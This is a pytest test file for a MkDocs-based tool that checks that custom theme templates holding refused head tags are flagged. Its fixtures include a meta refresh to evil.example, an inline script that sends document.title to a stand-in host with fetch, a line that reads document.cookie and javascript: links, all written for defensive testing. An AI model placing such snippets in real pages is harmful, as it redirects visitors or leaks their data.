"""A casebook's own theme templates (`theme.custom_dir` in mkdocs.yml): what one puts into every
page's head that the build's last audit refuses (`<meta http-equiv="refresh">`, `<base href>`,
`<style>@import url(https://…)</style>` …) is named by `casekit check` first, once at its line and
column in the template (`theme-template-refused`), by the audit's own rules
(casekit.core.page_rules); the build, which refuses on check's errors, fails with those few lines,
not with one audit finding a page."""

from __future__ import annotations

from pathlib import Path

import pytest

from casekit.core.casebook import check
from casekit.core.page_rules import template_problems
from casekit.core.sensitive import SensitiveIndex
from casekit.site.audit import Expected, Scanner, audit_data

TEMPLATE = """{% extends "base.html" %}
{# <base href="https://commented.example/"> a Jinja comment is not rendered #}
<!-- <meta http-equiv="refresh" content="0; url=https://commented.example/"> -->
{% block extrahead %}
  <meta http-equiv="refresh" content="0; url=https://evil.example/">
  <base href="https://cdn.example/">
  <style>
    body { color: #333 }
    @import url(https://fonts.example/x.css);
  </style>
  <link rel="stylesheet" href="{{ 'assets/extra.css' | url }}">
  <a href="https://example.org/">바깥 링크는 누르는 것일 뿐</a>
{% endblock %}
"""
PLACES = [(5, 3), (6, 3), (7, 3)]


def with_template(root: Path, text: str = TEMPLATE) -> Path:
    settings = root / "mkdocs.yml"
    written = settings.read_text(encoding="utf-8")
    assert "  features: []\n" in written
    settings.write_text(written.replace("  features: []\n", "  features: []\n  custom_dir: overrides\n", 1),
                        encoding="utf-8")
    (root / "overrides").mkdir(exist_ok=True)
    (root / "overrides" / "main.html").write_text(text, encoding="utf-8")
    return root


def test_check_names_each_refused_tag_of_a_template_at_its_place(sample: Path) -> None:
    found = [f for f in check(with_template(sample), cache=False).findings if f.code == "theme-template-refused"]
    assert [(f.path, f.line, f.column, f.severity) for f in found] == [
        ("overrides/main.html", line, column, "error") for line, column in PLACES]
    assert "<meta refresh> evil.example" in found[0].message_ko and "다른 주소로 보냅니다" in found[0].message_ko
    assert "(<base>)" in found[1].message_ko and "<style> CSS fonts.example" in found[2].message_ko
    assert all("템플릿에서 이 태그를 지우세요" in f.message_ko for f in found)


def test_a_harmless_template_gets_no_finding(sample: Path) -> None:
    harmless = '{% extends "base.html" %}\n{% block extrahead %}<link rel="stylesheet" href="{{ base_url }}/x.css">' \
               '<meta name="robots" content="noindex">{% endblock %}\n'
    assert [f for f in check(with_template(sample, harmless), cache=False).findings
            if f.code in ("theme-template-refused", "theme-file-refused")] == []


@pytest.mark.parametrize("tag", [
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">', '<base href="/">',
    '<style>@import url(https://fonts.example/x.css);</style>', '<link rel="stylesheet" href="https://cdn.example/x.css">',
    '<script src="https://cdn.example/x.js"></script>', '<img src="//tracker.example/p.gif">',
    '<body onload="x()">', '<iframe src="/x"></iframe>', '<div style="background: url(https://x.example/a.png)">',
    '<a href="javascript:alert(1)">x</a>', '<link rel="icon" href="data:,">', '<a href="https://example.org/">x</a>',
    '<meta http-equiv="refresh" content="30">', '<script>fetch("https://x.example/?" + document.title)</script>',
    '<SCRIPT type="module">import("/x.js")</SCRIPT>', '<script></script>', '<script type="application/json">{"a": 1}</script>',
    '<bdo dir="rtl">x</bdo>', '<p dir="rtl">x</p>', '<img src="data:image/svg+xml;base64,AAAA">', '<p dir="ltr">x</p>',
])
def test_check_and_the_audit_judge_a_head_alike(tag: str) -> None:
    """What check says of a template's tag is what the build's audit says of the page it lands in."""
    page = f'<!doctype html><html><head><meta charset="utf-8">{tag}</head><body><p>글</p></body></html>'
    audited = {(f.code, f.message_en) for f in audit_data("x.html", page.encode(), Scanner(SensitiveIndex([])),
                                                              Expected(), page) if f.code != "site-no-policy"}
    checked = template_problems(tag)
    assert bool(checked) == bool(audited), (checked, audited)
    assert {code for _, _, code, _ in checked} <= {code for code, _ in audited}


def test_a_hostile_template_is_read_in_one_pass() -> None:
    import time

    started = time.process_time()
    for text in ("{#" * 200_000, "<!--" * 200_000, "<style>" * 200_000, '<a "' * 200_000, "<base>\n" * 200_000,
                 "<style>@import url(https://x.example/a)" * 20_000):
        assert len(template_problems(text)) <= 20
    assert time.process_time() - started < 4.0


def test_the_build_refuses_with_the_templates_findings_not_one_a_page(sample: Path, run) -> None:
    result = run(with_template(sample), "build")
    assert result.exit_code != 0
    assert result.output.count("theme-template-refused") == len(PLACES), result.output
    assert "site-active-content" not in result.output and "site-outside-load" not in result.output
    assert not (sample / "site" / "index.html").exists()


def test_what_check_cannot_read_in_a_template_still_fails_the_build_said_once(sample: Path, run) -> None:
    """A refresh the template makes with a Jinja expression (`{{ 'ur' ~ 'l' }}=…`) is not in its
    text: check passes it, the audit finds it on every page and the build still fails (security
    unchanged), saying it once with how many files hold it."""
    made = ('{% extends "base.html" %}\n{% block extrahead %}\n'
            '<meta http-equiv="refresh" content="0; {{ \'ur\' ~ \'l\' }}=https://evil.example/">\n{% endblock %}\n')
    with_template(sample, made)
    assert [f for f in check(sample, cache=False).findings if f.code == "theme-template-refused"] == []
    result = run(sample, "build")
    assert result.exit_code == 1, result.output
    said = [line for line in result.output.splitlines() if "<meta refresh> evil.example" in line]
    assert len(said) == 1, result.output[-3000:]
    assert "같은 것이 파일" in said[0] and "theme.custom_dir" in said[0]
    assert not (sample / "site").exists()


def _material_partial() -> str:
    import material

    return (Path(material.__file__).parent / "templates/partials/javascripts/base.html").read_text(encoding="utf-8")


def test_an_inline_script_of_a_template_is_refused_unless_it_is_the_themes_own(sample: Path) -> None:
    """An analytics or chat script pasted into a template passed check; the build then refused every
    page (`inline <script> not from the theme`). Check names it at its tag. A copy of one of
    Material's own templates with an inline script (partials/javascripts/base.html) is not refused
    (the audit trusts those scripts); the same copy with its script edited is."""
    own = _material_partial()
    assert "<script>" in own
    pasted = '{% extends "base.html" %}\n{% block scripts %}{{ super() }}\n<script>\n  fetch("https://x.example/?" + ' \
             'document.title)\n</script>\n{% endblock %}\n'
    with_template(sample, pasted)
    copied = sample / "overrides/partials/javascripts/base.html"
    copied.parent.mkdir(parents=True)
    copied.write_text(own, encoding="utf-8")
    found = [f for f in check(sample, cache=False).findings if f.code == "theme-template-refused"]
    assert [(f.path, f.line, f.column) for f in found] == [("overrides/main.html", 3, 1)], found
    assert "inline <script>" in found[0].message_ko and "테마(Material)의 것이 아닌 스크립트" in found[0].message_ko
    first = own.index("<script>") + len("<script>")
    copied.write_text(own[:first] + "console.log(document.cookie);" + own[first:], encoding="utf-8")
    found = [f for f in check(sample, cache=False).findings if f.code == "theme-template-refused"]
    assert [(f.path, f.line) for f in found] == [("overrides/main.html", 3), (
        "overrides/partials/javascripts/base.html", own[:first].count("\n") + 1)], found
